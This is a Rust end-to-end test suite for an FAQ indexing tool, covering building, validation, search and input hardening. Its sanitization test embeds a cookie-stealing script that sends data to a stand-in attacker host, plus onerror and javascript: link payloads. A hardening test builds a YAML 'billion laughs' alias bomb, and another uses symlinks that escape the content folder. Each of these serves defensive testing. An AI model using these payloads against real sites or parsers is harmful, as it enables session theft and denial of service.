//! End-to-end tests of the `faq-indexer` binary: what a content editor types, what they
//! see, and what lands in the output folder the widget downloads from.
//!
//! Every test runs the real binary in its own temporary folder, so tests neither share
//! state nor depend on the order they run in.

use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::fs;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use tempfile::TempDir;

// ---------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------

/// What one run of the binary produced.
#[derive(Debug)]
struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Run {
    fn assert_code(&self, code: i32) -> &Self {
        assert_eq!(
            self.code, code,
            "expected exit code {code}\n--- stdout\n{}\n--- stderr\n{}",
            self.stdout, self.stderr
        );
        self
    }

    /// Asserts stderr has a finding `<path>:<line>: <severity>: ...` containing `text`.
    fn assert_finding(&self, path: &Path, line: usize, severity: &str, text: &str) -> &Self {
        let prefix = format!("{}:{line}: {severity}: ", path.display());
        assert!(
            self.stderr
                .lines()
                .any(|l| l.starts_with(&prefix) && l.contains(text)),
            "no `{prefix}...{text}...` in stderr:\n{}",
            self.stderr
        );
        self
    }
}

fn faq_indexer<I, S>(args: I) -> Run
where
    I: IntoIterator<Item = S>,
    S: AsRef<OsStr>,
{
    let output = Command::new(env!("CARGO_BIN_EXE_faq-indexer"))
        .args(args)
        .output()
        .expect("cannot run faq-indexer");
    finished(output)
}

/// Runs the binary like [`faq_indexer`], for inputs that could make it hang or run for
/// minutes: fails the test when it takes longer than `limit` (killing it first).
fn faq_indexer_within<I, S>(limit: Duration, args: I) -> Run
where
    I: IntoIterator<Item = S>,
    S: AsRef<OsStr>,
{
    let mut child = Command::new(env!("CARGO_BIN_EXE_faq-indexer"))
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("cannot run faq-indexer");
    // Read both pipes while waiting, so a chatty run cannot block on a full pipe.
    let drain = |mut pipe: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut bytes = Vec::new();
            pipe.read_to_end(&mut bytes).map(|_| bytes)
        })
    };
    let stdout = drain(Box::new(child.stdout.take().unwrap()));
    let stderr = drain(Box::new(child.stderr.take().unwrap()));
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > limit {
            child.kill().ok();
            child.wait().ok();
            panic!("faq-indexer was still running after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    finished(Output {
        status,
        stdout: stdout.join().unwrap().unwrap(),
        stderr: stderr.join().unwrap().unwrap(),
    })
}

fn finished(output: Output) -> Run {
    Run {
        code: output
            .status
            .code()
            .expect("faq-indexer was killed by a signal"),
        stdout: String::from_utf8(output.stdout).expect("stdout is not UTF-8"),
        stderr: String::from_utf8(output.stderr).expect("stderr is not UTF-8"),
    }
}

fn write(path: &Path, content: &str) -> PathBuf {
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent).unwrap();
    }
    fs::write(path, content).unwrap();
    path.to_path_buf()
}

fn build(inputs: &[&Path], out: &Path) -> Run {
    let mut args: Vec<&OsStr> = vec!["build".as_ref()];
    args.extend(inputs.iter().map(|p| p.as_os_str()));
    args.extend(["--out".as_ref(), out.as_os_str()]);
    faq_indexer(args)
}

fn check(inputs: &[&Path]) -> Run {
    let mut args: Vec<&OsStr> = vec!["check".as_ref()];
    args.extend(inputs.iter().map(|p| p.as_os_str()));
    faq_indexer(args)
}

/// Every file of a folder (not recursive) by name, with its bytes.
fn snapshot(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    fs::read_dir(dir)
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            (
                e.file_name().to_string_lossy().into_owned(),
                fs::read(e.path()).unwrap(),
            )
        })
        .collect()
}

fn manifest(out: &Path) -> Value {
    let text = fs::read_to_string(out.join("faq-manifest.json")).expect("no manifest");
    serde_json::from_str(&text).expect("manifest is not JSON")
}

// ---------------------------------------------------------------------------------------
// Fixture: a small help centre, five Markdown articles (one German) and a CSV export
// ---------------------------------------------------------------------------------------

const TRACK_ORDER: &str = r#"---
id: track-order
title: "Where is my order?"
category: Orders
tags: [shipping, tracking]
questions:
  - How do I track my parcel?
  - Has my order shipped yet?
pages:
  - /account/orders*
---
As soon as your order leaves our warehouse we send you an email with a **tracking link**.

1. Open *My account* and choose **Orders**.
2. Select the order to see the carrier and the tracking number.

Tracking can take up to 24 hours to show the first scan.
"#;

const RETURNS: &str = r#"---
id: returns
title: "How do I return an item?"
category: Returns
tags: returns
questions:
  - Can I send something back?
  - What is your return policy?
---
You can return unworn items within **30 days** of delivery.

Print the prepaid label from [the returns page](/returns), pack the item in its original
packaging and drop it at any post office. Your refund arrives 5 to 7 days after we receive
the parcel.
"#;

const DELIVERY_TIMES: &str = r#"---
id: delivery-times
title: "How long does delivery take?"
category: Shipping
questions:
  - When will my package arrive?
---
| Destination | Standard | Express |
|---|---|---|
| Germany | 2-3 days | next day |
| Rest of EU | 3-5 days | 2 days |

Orders placed before 2 pm ship the same working day.
"#;

const PAYMENT_METHODS: &str = r#"---
id: payment-methods
title: "Which payment methods do you accept?"
category: Payment
tags: [payment, checkout]
pages: ["/checkout*", "/cart"]
---
We accept Visa, Mastercard, American Express, PayPal and Klarna invoice. Payment is taken
when your order ships.
"#;

const RUECKGABE_DE: &str = r#"---
id: rueckgabe
title: "Wie kann ich einen Artikel zurückgeben?"
category: Rückgabe
locale: de
questions:
  - Wie lange habe ich Zeit für eine Rücksendung?
---
Sie können ungetragene Artikel innerhalb von **30 Tagen** zurückgeben. Drucken Sie das
Rücksendeetikett auf der Rückgabeseite aus.
"#;

const MORE_CSV: &str = "id,title,body,category,tags,questions,pages,locale
gift-cards,Can I pay with a gift card?,\"Enter the gift card code at checkout.
Gift cards are valid for three years.\",Payment,gift|voucher,Do gift cards expire?|How do I redeem a voucher?,/checkout*,en
size-guide,Which size should I order?,\"Measure your chest and waist, then compare with the **size chart** on each product page.\",Sizing,fit,Does this jacket run small?,/products/*,
";

/// Writes the fixture into `root`; returns the Markdown folder and the CSV file.
fn fixture(root: &Path) -> (PathBuf, PathBuf) {
    let articles = root.join("articles");
    write(&articles.join("track-order.md"), TRACK_ORDER);
    write(&articles.join("returns.md"), RETURNS);
    write(&articles.join("shipping/delivery-times.md"), DELIVERY_TIMES);
    write(&articles.join("payment-methods.md"), PAYMENT_METHODS);
    write(&articles.join("de/rueckgabe.md"), RUECKGABE_DE);
    let csv = write(&root.join("more.csv"), MORE_CSV);
    (articles, csv)
}

/// A temporary folder holding the fixture built into `out/`.
fn built_fixture() -> (TempDir, PathBuf) {
    let tmp = TempDir::new().unwrap();
    let (articles, csv) = fixture(tmp.path());
    let out = tmp.path().join("out");
    build(&[&articles, &csv], &out).assert_code(0);
    (tmp, out)
}

fn search<I, S>(out: &Path, args: I) -> Run
where
    I: IntoIterator<Item = S>,
    S: AsRef<OsStr>,
{
    let mut all: Vec<std::ffi::OsString> = vec!["search".into(), "--index".into(), out.into()];
    all.extend(args.into_iter().map(|a| a.as_ref().to_os_string()));
    faq_indexer(all)
}

/// Parses one `search --json` line, checking it has exactly the documented shape:
/// `{"query": str, "results": [{"id": str, "title": str, "score": number}]}`.
fn json_line(line: &str) -> (String, Vec<(String, String, f64)>) {
    let v: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
    let obj = v.as_object().expect("a JSON object per line");
    let mut keys: Vec<_> = obj.keys().map(String::as_str).collect();
    keys.sort();
    assert_eq!(keys, ["query", "results"], "{line}");
    let results = obj["results"]
        .as_array()
        .expect("results is an array")
        .iter()
        .map(|r| {
            let r = r.as_object().expect("each result is an object");
            let mut keys: Vec<_> = r.keys().map(String::as_str).collect();
            keys.sort();
            assert_eq!(keys, ["id", "score", "title"], "{line}");
            (
                r["id"].as_str().expect("id is a string").to_string(),
                r["title"].as_str().expect("title is a string").to_string(),
                r["score"].as_f64().expect("score is a number"),
            )
        })
        .collect();
    (
        obj["query"]
            .as_str()
            .expect("query is a string")
            .to_string(),
        results,
    )
}

fn is_bundle_name(name: &str, locale: &str) -> bool {
    let Some(hash) = name
        .strip_prefix(&format!("faq-{locale}-"))
        .and_then(|rest| rest.strip_suffix(".bin"))
    else {
        return false;
    };
    hash.len() == 16
        && hash
            .chars()
            .all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase())
}

// ---------------------------------------------------------------------------------------
// build
// ---------------------------------------------------------------------------------------

#[test]
fn build_writes_a_manifest_of_hashed_bundles_per_locale() {
    let tmp = TempDir::new().unwrap();
    let (articles, csv) = fixture(tmp.path());
    let out = tmp.path().join("out");
    let run = build(&[&articles, &csv], &out);
    run.assert_code(0);
    assert!(
        run.stdout.is_empty(),
        "build reports on stderr only: {}",
        run.stdout
    );

    let m = manifest(&out);
    assert_eq!(m["format"], 1);
    let locales = m["locales"].as_object().unwrap();
    assert_eq!(locales.keys().collect::<Vec<_>>(), ["de", "en"]);
    for (locale, articles) in [("en", 6), ("de", 1)] {
        let entry = &locales[locale];
        assert_eq!(entry["articles"], articles, "{locale}");
        let file = entry["file"].as_str().unwrap();
        assert!(
            is_bundle_name(file, locale),
            "{file} is not faq-{locale}-<16 hex>.bin"
        );
        let bytes = fs::read(out.join(file)).unwrap();
        assert_eq!(entry["bytes"], bytes.len() as u64, "{locale}");
        assert!(bytes.starts_with(b"SDFAQ\0"), "{file} is not a bundle");
    }
    let mut files: Vec<_> = snapshot(&out).into_keys().collect();
    files.sort();
    let mut expected = vec!["faq-manifest.json".to_string()];
    for locale in ["de", "en"] {
        let file = locales[locale]["file"].as_str().unwrap();
        // Each bundle with its brotli and gzip copies; never the manifest, which
        // changes in place.
        for suffix in ["", ".br", ".gz"] {
            expected.push(format!("{file}{suffix}"));
        }
    }
    expected.sort();
    assert_eq!(files, expected, "no temporary or stray files are left");

    // The summary names the total and each locale's count and bundle.
    assert!(run.stderr.contains("Indexed 7 articles"), "{}", run.stderr);
    for (locale, count) in [("en", 6), ("de", 1)] {
        let file = locales[locale]["file"].as_str().unwrap();
        assert!(
            run.stderr
                .lines()
                .any(|l| l.trim_start().starts_with(locale)
                    && l.contains(&format!("{count} articles"))
                    && l.contains(file)),
            "no summary line for {locale}:\n{}",
            run.stderr
        );
    }
}

#[test]
fn build_is_deterministic() {
    let tmp = TempDir::new().unwrap();
    let (articles, csv) = fixture(tmp.path());
    let (one, two) = (tmp.path().join("one"), tmp.path().join("two"));
    build(&[&articles, &csv], &one).assert_code(0);
    build(&[&articles, &csv], &two).assert_code(0);
    let (a, b) = (snapshot(&one), snapshot(&two));
    assert_eq!(a.keys().collect::<Vec<_>>(), b.keys().collect::<Vec<_>>());
    for (name, bytes) in &a {
        assert!(
            bytes == &b[name],
            "{name} differs between two builds of the same content"
        );
    }
}

#[test]
fn a_build_with_errors_leaves_the_previous_output_untouched() {
    let tmp = TempDir::new().unwrap();
    let (articles, csv) = fixture(tmp.path());
    let out = tmp.path().join("out");
    build(&[&articles, &csv], &out).assert_code(0);
    let before = snapshot(&out);

    // Edit one article and break another: nothing of this build may be published.
    write(
        &articles.join("returns.md"),
        &RETURNS.replace("30 days", "60 days"),
    );
    let broken = write(
        &articles.join("broken.md"),
        "---\nid: broken\ntitle: \"Broken\ncategory: Orders\n---\nBody.\n",
    );
    let run = build(&[&articles, &csv], &out);
    run.assert_code(1);
    assert!(
        run.stderr
            .lines()
            .any(|l| l.starts_with(&format!("{}:", broken.display()))),
        "the error names the broken file:\n{}",
        run.stderr
    );
    assert!(run.stderr.contains("nothing was written"), "{}", run.stderr);
    assert_eq!(snapshot(&out), before, "the output folder changed");
}

#[test]
fn bundles_get_compressed_copies_that_go_with_their_generation() {
    use std::io::Read;
    let tmp = TempDir::new().unwrap();
    let (articles, csv) = fixture(tmp.path());
    let out = tmp.path().join("out");
    let bundle = |out: &Path| {
        manifest(out)["locales"]["en"]["file"]
            .as_str()
            .unwrap()
            .to_string()
    };
    build(&[&articles, &csv], &out).assert_code(0);
    let first = bundle(&out);
    let raw = fs::read(out.join(&first)).unwrap();
    let mut unbrotli = Vec::new();
    brotli::Decompressor::new(
        &fs::read(out.join(format!("{first}.br"))).unwrap()[..],
        4096,
    )
    .read_to_end(&mut unbrotli)
    .unwrap();
    assert!(unbrotli == raw, "the .br copy is not the bundle");
    let mut ungzip = Vec::new();
    flate2::read::GzDecoder::new(&fs::read(out.join(format!("{first}.gz"))).unwrap()[..])
        .read_to_end(&mut ungzip)
        .unwrap();
    assert!(ungzip == raw, "the .gz copy is not the bundle");

    // Two edits later the first generation is gone, copies included.
    for days in ["60 days", "90 days"] {
        write(
            &articles.join("returns.md"),
            &RETURNS.replace("30 days", days),
        );
        build(&[&articles, &csv], &out).assert_code(0);
    }
    let names: Vec<_> = snapshot(&out).into_keys().collect();
    assert!(
        !names.iter().any(|n| n.starts_with(&first)),
        "stale bundle files left: {names:?}"
    );
    let latest = bundle(&out);
    assert!(names.contains(&format!("{latest}.br")), "{names:?}");

    // Throwaway indexes can skip them.
    let bare = tmp.path().join("bare");
    faq_indexer([
        "build".as_ref(),
        articles.as_os_str(),
        "--out".as_ref(),
        bare.as_os_str(),
        "--no-precompress".as_ref(),
    ])
    .assert_code(0);
    assert!(snapshot(&bare)
        .keys()
        .all(|n| !n.ends_with(".br") && !n.ends_with(".gz")));
}

// ---------------------------------------------------------------------------------------
// check: each finding names the file and line, errors exit with 1
// ---------------------------------------------------------------------------------------

/// Runs `check` on a folder holding `files` (name, content); returns the folder too.
fn check_files(files: &[(&str, &str)]) -> (TempDir, PathBuf, Run) {
    let tmp = TempDir::new().unwrap();
    let dir = tmp.path().join("articles");
    for (name, content) in files {
        write(&dir.join(name), content);
    }
    let run = check(&[&dir]);
    (tmp, dir, run)
}

#[test]
fn check_reports_bad_yaml_at_the_bad_line() {
    let (_tmp, dir, run) = check_files(&[(
        "bad.md",
        "---\nid: bad\ntitle: Returns\n  category: Orders\n---\nBody.\n",
    )]);
    run.assert_code(1)
        .assert_finding(&dir.join("bad.md"), 4, "error", "bad YAML");
    assert!(run.stderr.contains("1 error(s)"), "{}", run.stderr);
}

#[test]
fn check_reports_a_missing_or_empty_title() {
    let (_tmp, dir, run) = check_files(&[
        (
            "absent.md",
            "---\nid: absent\ncategory: Orders\n---\nAn answer.\n",
        ),
        (
            "blank.md",
            "---\nid: blank\ntitle: \"  \"\n---\nAn answer.\n",
        ),
    ]);
    run.assert_code(1)
        .assert_finding(&dir.join("absent.md"), 1, "error", "missing `title`")
        .assert_finding(&dir.join("blank.md"), 3, "error", "missing `title`");
}

#[test]
fn check_reports_a_missing_body_below_the_front_matter() {
    let (_tmp, dir, run) = check_files(&[("no-body.md", "---\ntitle: No answer yet\n---\n\n  \n")]);
    run.assert_code(1)
        .assert_finding(&dir.join("no-body.md"), 4, "error", "missing answer");
}

#[test]
fn check_reports_duplicate_ids_across_files() {
    let (_tmp, dir, run) = check_files(&[
        (
            "a-first.md",
            "---\nid: shipping\ntitle: Shipping costs\n---\nFree over 50 EUR.\n",
        ),
        (
            "b-second.md",
            "---\nid: shipping\ntitle: Shipping times\n---\n2 to 3 days.\n",
        ),
    ]);
    run.assert_code(1).assert_finding(
        &dir.join("b-second.md"),
        1,
        "error",
        "duplicate article id `shipping`",
    );
    let first = format!("{}:1", dir.join("a-first.md").display());
    assert!(
        run.stderr.contains(&first),
        "the other file is named:\n{}",
        run.stderr
    );
}

#[test]
fn check_reports_an_unknown_locale_at_its_key() {
    let (_tmp, dir, run) = check_files(&[(
        "pt.md",
        "---\ntitle: Devoluções\ncategory: Returns\nlocale: pt\n---\nResposta.\n",
    )]);
    run.assert_code(1)
        .assert_finding(&dir.join("pt.md"), 4, "error", "unknown locale `pt`");
}

#[test]
fn check_reports_a_question_shared_by_two_articles() {
    let (_tmp, dir, run) = check_files(&[
        (
            "a.md",
            "---\ntitle: Track an order\nquestions:\n  - Where is my parcel?\n---\nUse the tracking link.\n",
        ),
        (
            "b.md",
            "---\ntitle: Lost parcels\nquestions:\n  - My parcel is lost\n  - where is my  parcel\n---\nContact us.\n",
        ),
    ]);
    run.assert_code(1).assert_finding(
        &dir.join("b.md"),
        5,
        "error",
        "is also a question of article `a`",
    );
    let other = format!("{}:4", dir.join("a.md").display());
    assert!(
        run.stderr.contains(&other),
        "the other article's line is named:\n{}",
        run.stderr
    );
}

#[test]
fn check_reports_an_empty_file() {
    let (_tmp, dir, run) = check_files(&[("empty.md", "")]);
    run.assert_code(1)
        .assert_finding(&dir.join("empty.md"), 1, "error", "file is empty");
}

#[test]
fn check_reports_a_page_pattern_without_leading_slash() {
    let (_tmp, dir, run) = check_files(&[(
        "pay.md",
        "---\ntitle: Paying\npages:\n  - /cart*\n  - checkout\n---\nCards and PayPal.\n",
    )]);
    run.assert_code(1).assert_finding(
        &dir.join("pay.md"),
        5,
        "error",
        "bad URL pattern `checkout`",
    );
}

/// Known bug: a question's line is found as the first line (from the `questions:` key
/// on) that *contains* its text, so a question that is a substring of an earlier one is
/// reported on the earlier one's line (here 4 instead of 5).
#[test]

fn check_reports_a_shared_question_on_its_own_line_when_an_earlier_one_contains_it() {
    let (_tmp, dir, run) = check_files(&[
        (
            "a.md",
            "---\ntitle: Sale returns\nquestions:\n  - Can I return sale items\n---\nYes.\n",
        ),
        (
            "b.md",
            "---\ntitle: Online returns\nquestions:\n  - Can I return sale items online?\n  - Can I return sale items\n---\nYes.\n",
        ),
    ]);
    run.assert_code(1).assert_finding(
        &dir.join("b.md"),
        5,
        "error",
        "is also a question of article `a`",
    );
}

/// Same bug for page patterns: `checkout` is reported on the `/checkout*` line.
#[test]

fn check_reports_a_bad_pattern_on_its_own_line_when_an_earlier_one_contains_it() {
    let (_tmp, dir, run) = check_files(&[(
        "pay.md",
        "---\ntitle: Paying\npages:\n  - /checkout*\n  - checkout\n---\nCards.\n",
    )]);
    run.assert_code(1).assert_finding(
        &dir.join("pay.md"),
        5,
        "error",
        "bad URL pattern `checkout`",
    );
}

#[test]
fn check_reports_csv_rows_at_their_line() {
    let tmp = TempDir::new().unwrap();
    let csv = write(
        &tmp.path().join("faq.csv"),
        "id,title,body\nok,Fine,\"Two\nlines\"\nno-title,,An answer.\nno-body,Title,\n",
    );
    check(&[&csv])
        .assert_code(1)
        .assert_finding(&csv, 4, "error", "empty `title`")
        .assert_finding(&csv, 5, "error", "empty `body`");
}

#[test]
fn check_reports_every_error_of_a_folder_at_once() {
    let (_tmp, dir, run) = check_files(&[
        ("empty.md", ""),
        ("pt.md", "---\ntitle: X\nlocale: pt\n---\nY.\n"),
        ("fine.md", "---\ntitle: Fine\n---\nAn answer.\n"),
    ]);
    run.assert_code(1)
        .assert_finding(&dir.join("empty.md"), 1, "error", "file is empty")
        .assert_finding(&dir.join("pt.md"), 3, "error", "unknown locale");
    assert!(
        run.stderr.contains("2 error(s), 0 warning(s)"),
        "{}",
        run.stderr
    );
}

#[test]
fn warnings_alone_do_not_fail_check_or_build() {
    let tmp = TempDir::new().unwrap();
    let dir = tmp.path().join("articles");
    let file = write(
        &dir.join("gift.md"),
        "---\ntitle: Gift wrapping\nauthor: Sam\nquestions:\n  - Do you gift wrap?\n  - do you gift wrap\n---\nYes, for 3 EUR.\n",
    );
    let run = check(&[&dir]);
    run.assert_code(0)
        .assert_finding(&file, 3, "warning", "unknown front matter key `author`")
        .assert_finding(&file, 6, "warning", "listed twice");
    assert!(run.stderr.contains("1 articles OK"), "{}", run.stderr);

    let out = tmp.path().join("out");
    build(&[&dir], &out).assert_code(0);
    assert_eq!(manifest(&out)["locales"]["en"]["articles"], 1);
}

// ---------------------------------------------------------------------------------------
// search
// ---------------------------------------------------------------------------------------

#[test]
fn search_json_forgives_typos_and_has_the_documented_shape() {
    let (_tmp, out) = built_fixture();
    let run = search(&out, ["--json", "--limit", "3", "retrun an itme"]);
    run.assert_code(0);
    let lines: Vec<_> = run.stdout.lines().collect();
    assert_eq!(lines.len(), 1, "{}", run.stdout);
    let (query, results) = json_line(lines[0]);
    assert_eq!(query, "retrun an itme");
    assert!(!results.is_empty() && results.len() <= 3, "{results:?}");
    assert_eq!(results[0].0, "returns");
    assert_eq!(results[0].1, "How do I return an item?");
    assert!(
        results.windows(2).all(|w| w[0].2 >= w[1].2),
        "results are best first: {results:?}"
    );
}

#[test]
fn search_queries_file_prints_one_line_per_query_in_order() {
    let (tmp, out) = built_fixture();
    let queries = write(
        &tmp.path().join("queries.txt"),
        "how long does delivery take\n\ngift card\nqwxz vbnm\ntrack my parcel\n",
    );
    let run = search(
        &out,
        ["--json".as_ref(), "--queries".as_ref(), queries.as_os_str()],
    );
    run.assert_code(0);
    let lines: Vec<_> = run.stdout.lines().map(json_line).collect();
    let asked: Vec<_> = lines.iter().map(|(q, _)| q.as_str()).collect();
    assert_eq!(
        asked,
        [
            "how long does delivery take",
            "gift card",
            "qwxz vbnm",
            "track my parcel"
        ],
        "blank lines are skipped, the rest answered in order"
    );
    let first = |i: usize| lines[i].1.first().map(|r| r.0.as_str());
    assert_eq!(first(0), Some("delivery-times"));
    assert_eq!(first(1), Some("gift-cards"));
    assert_eq!(first(2), None, "gibberish finds nothing");
    assert_eq!(first(3), Some("track-order"));
}

#[test]
fn search_in_a_missing_locale_lists_the_available_ones() {
    let (_tmp, out) = built_fixture();
    let run = search(&out, ["--locale", "fr", "retour"]);
    run.assert_code(2);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    let have = run
        .stderr
        .split_once("it has: ")
        .map(|(_, rest)| rest.split('.').next().unwrap_or_default())
        .unwrap_or_else(|| panic!("no list of locales in:\n{}", run.stderr));
    let mut have: Vec<_> = have.split(", ").collect();
    have.sort();
    assert_eq!(have, ["de", "en"], "{}", run.stderr);
    assert!(run.stderr.contains("no `fr` articles"), "{}", run.stderr);
}

#[test]
fn search_in_german_folds_umlauts() {
    let (_tmp, out) = built_fixture();
    let run = search(&out, ["--locale", "de", "--json", "artikel zuruckgeben"]);
    run.assert_code(0);
    let (_, results) = json_line(run.stdout.trim_end());
    assert_eq!(results.first().map(|r| r.0.as_str()), Some("rueckgabe"));
}

#[test]
fn search_without_an_index_exits_2_and_says_how_to_build_one() {
    let tmp = TempDir::new().unwrap();
    let run = search(&tmp.path().join("nowhere"), ["returns"]);
    run.assert_code(2);
    assert!(run.stderr.contains("faq-indexer build"), "{}", run.stderr);
}

// ---------------------------------------------------------------------------------------
// sanitization
// ---------------------------------------------------------------------------------------

#[test]
fn scripts_handlers_and_javascript_links_never_reach_the_bundle() {
    let tmp = TempDir::new().unwrap();
    let dir = tmp.path().join("articles");
    write(
        &dir.join("vouchers.md"),
        r#"---
id: vouchers
title: "How do I redeem a voucher?"
---
Enter the **voucher code** in the basket before you pay.

<script>document.location = 'https://evil.example/?c=' + document.cookie</script>

<img src="x.png" onerror="alert(1)">

[Check your balance](javascript:alert(document.cookie)) or [see the terms](/terms).
"#,
    );
    let out = tmp.path().join("out");
    build(&[&dir], &out).assert_code(0);

    let run = search(&out, ["--json", "redeem voucher code"]);
    run.assert_code(0);
    let (_, results) = json_line(run.stdout.trim_end());
    assert_eq!(results.first().map(|r| r.0.as_str()), Some("vouchers"));

    let file = manifest(&out)["locales"]["en"]["file"]
        .as_str()
        .unwrap()
        .to_string();
    let bundle = fs::read(out.join(&file)).unwrap();
    let lower = String::from_utf8_lossy(&bundle).to_lowercase();
    for bad in ["<script", "onerror", "javascript:", "document.cookie"] {
        assert!(!lower.contains(bad), "`{bad}` is in the bundle {file}");
    }

    // What the widget will insert as HTML: the safe parts survive.
    let engine = faq_core::Engine::open(&bundle).expect("the bundle opens");
    let html = engine
        .article("vouchers")
        .unwrap()
        .expect("the article is there")
        .html;
    assert!(html.contains("<strong>voucher code</strong>"), "{html}");
    assert!(html.contains("href=\"/terms\""), "{html}");
    assert!(
        !html.contains("<script") && !html.contains("onerror") && !html.contains("javascript:")
    );
}

// ---------------------------------------------------------------------------------------
// input hardening: file sizes, symlinks, special files, YAML aliases
// ---------------------------------------------------------------------------------------

/// A valid article whose answer makes the file exactly `bytes` long.
fn article_of_size(title: &str, bytes: usize) -> String {
    let head = format!("---\ntitle: {title}\n---\n");
    let mut text = head.clone();
    while text.len() < bytes {
        text.push_str("Words of a very long answer. ");
    }
    text.truncate(bytes - 1);
    text.push('\n');
    text
}

#[test]
fn a_file_over_the_size_limit_is_refused_with_its_size_the_limit_and_what_to_do() {
    let tmp = TempDir::new().unwrap();
    let dir = tmp.path().join("articles");
    write(&dir.join("fine.md"), &article_of_size("Fine", 1024 * 1024));
    let big = write(
        &dir.join("big.md"),
        &article_of_size("Big", 1024 * 1024 + 1),
    );
    let run = check(&[&dir]);
    run.assert_code(1).assert_finding(
        &big,
        1,
        "error",
        "file is 1.0 MiB (1048577 bytes), over the limit of 1.0 MiB (1048576 bytes) for one article; split it into smaller articles, or raise the limit with --max-file-bytes",
    );
    assert!(run.stderr.contains("1 error(s)"), "{}", run.stderr);

    // The limit is an option, in bytes or with a unit.
    let args = |limit: &str| {
        vec![
            "check".into(),
            dir.clone().into_os_string(),
            "--max-file-bytes".into(),
            limit.into(),
        ]
    };
    faq_indexer(args("2MiB")).assert_code(0);
    faq_indexer(args("1048577")).assert_code(0);
    let run = faq_indexer(args("2 gigs"));
    run.assert_code(2);
    assert!(run.stderr.contains("not a size"), "{}", run.stderr);

    // A CSV export holds many articles and has a limit of its own.
    let csv = write(&tmp.path().join("faq.csv"), MORE_CSV);
    let run = faq_indexer([
        "check".as_ref(),
        csv.as_os_str(),
        "--max-csv-bytes".as_ref(),
        "100".as_ref(),
    ]);
    run.assert_code(1).assert_finding(
        &csv,
        1,
        "error",
        "over the limit of 100 B (100 bytes) for a CSV file; split it into several CSV files",
    );
    check(&[&csv]).assert_code(0);
}

#[cfg(unix)]
#[test]
fn symlinks_are_followed_inside_the_content_folder_only_and_loops_end() {
    use std::os::unix::fs::symlink;
    let tmp = TempDir::new().unwrap();
    let dir = tmp.path().join("articles");
    write(&dir.join("returns.md"), RETURNS);
    write(&dir.join("shipping/delivery-times.md"), DELIVERY_TIMES);
    // Drafts are hidden, but a link may publish one.
    write(&dir.join(".drafts/track-order.md"), TRACK_ORDER);
    let secret = tmp.path().join("private");
    write(
        &secret.join("salaries.md"),
        "---\ntitle: Salaries\n---\nConfidential.\n",
    );
    write(
        &secret.join("more/keys.md"),
        "---\ntitle: Keys\n---\nConfidential.\n",
    );

    let link = |target: &str, name: &str| {
        let path = dir.join(name);
        symlink(target, &path).unwrap();
        path
    };
    let out_file = link("../private/salaries.md", "salaries.md");
    let out_dir = link("../private/more", "more");
    let absolute = dir.join("absolute.md");
    symlink(secret.join("salaries.md"), &absolute).unwrap();
    link(".drafts/track-order.md", "track-order.md");
    let again = link("returns.md", "returns-again.md");
    let self_loop = link(".", "loop");
    let up_loop = link("..", "shipping/up");
    let dangling = link("nowhere.md", "dangling.md");
    link("../private/salaries.md", "notes.txt");

    let run = faq_indexer_within(
        Duration::from_secs(20),
        [OsStr::new("check"), dir.as_os_str()],
    );
    run.assert_code(0);
    for path in [&out_file, &out_dir, &absolute] {
        run.assert_finding(path, 1, "warning", "outside the content folder");
    }
    let read_already = |p: &str| {
        format!(
            "symlink to `{}`, which is read already, is skipped",
            dir.join(p).display()
        )
    };
    run.assert_finding(&again, 1, "warning", &read_already("returns.md"))
        .assert_finding(&self_loop, 1, "warning", &read_already(""))
        .assert_finding(&dangling, 1, "warning", "symlink cannot be followed");
    // `shipping/up` leads back to the content folder: a loop, ended.
    run.assert_finding(&up_loop, 1, "warning", &read_already(""));
    assert!(
        run.stderr.contains("3 articles OK"),
        "returns, delivery-times and the linked draft:\n{}",
        run.stderr
    );
    assert!(!run.stderr.contains("notes.txt"), "{}", run.stderr);

    let out = tmp.path().join("out");
    faq_indexer_within(
        Duration::from_secs(30),
        [
            OsStr::new("build"),
            dir.as_os_str(),
            OsStr::new("--out"),
            out.as_os_str(),
        ],
    )
    .assert_code(0);
    let bundle =
        fs::read(out.join(manifest(&out)["locales"]["en"]["file"].as_str().unwrap())).unwrap();
    let text = String::from_utf8_lossy(&bundle);
    assert!(
        !text.contains("Confidential"),
        "a private file was published"
    );
    let engine = faq_core::Engine::open(&bundle).unwrap();
    assert!(engine.article("track-order").unwrap().is_some());
}

#[cfg(unix)]
#[test]
fn a_fifo_is_skipped_with_a_warning_and_never_opened() {
    let tmp = TempDir::new().unwrap();
    let dir = tmp.path().join("articles");
    write(&dir.join("returns.md"), RETURNS);
    let fifo = dir.join("pipe.md");
    let made = Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("no mkfifo");
    assert!(made.success());

    // Opening a FIFO waits for a writer: a run that opened it would never end.
    let run = faq_indexer_within(
        Duration::from_secs(20),
        [OsStr::new("check"), dir.as_os_str()],
    );
    run.assert_code(0)
        .assert_finding(&fifo, 1, "warning", "not a regular file");
    assert!(run.stderr.contains("1 articles OK"), "{}", run.stderr);

    // Named on the command line it is an error: the editor asked for it.
    faq_indexer_within(
        Duration::from_secs(20),
        [OsStr::new("check"), fifo.as_os_str()],
    )
    .assert_code(1)
    .assert_finding(&fifo, 1, "error", "not a regular file");
}

/// Nested anchors, each aliased nine times: 9^10 values from a few hundred bytes.
fn billion_laughs() -> String {
    let mut yaml =
        String::from("---\ntitle: Laughs\na0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for i in 1..10 {
        let refs = vec![format!("*a{}", i - 1); 9].join(", ");
        yaml.push_str(&format!("a{i}: &a{i} [{refs}]\n"));
    }
    yaml.push_str("tags: *a9\n---\nBody.\n");
    yaml
}

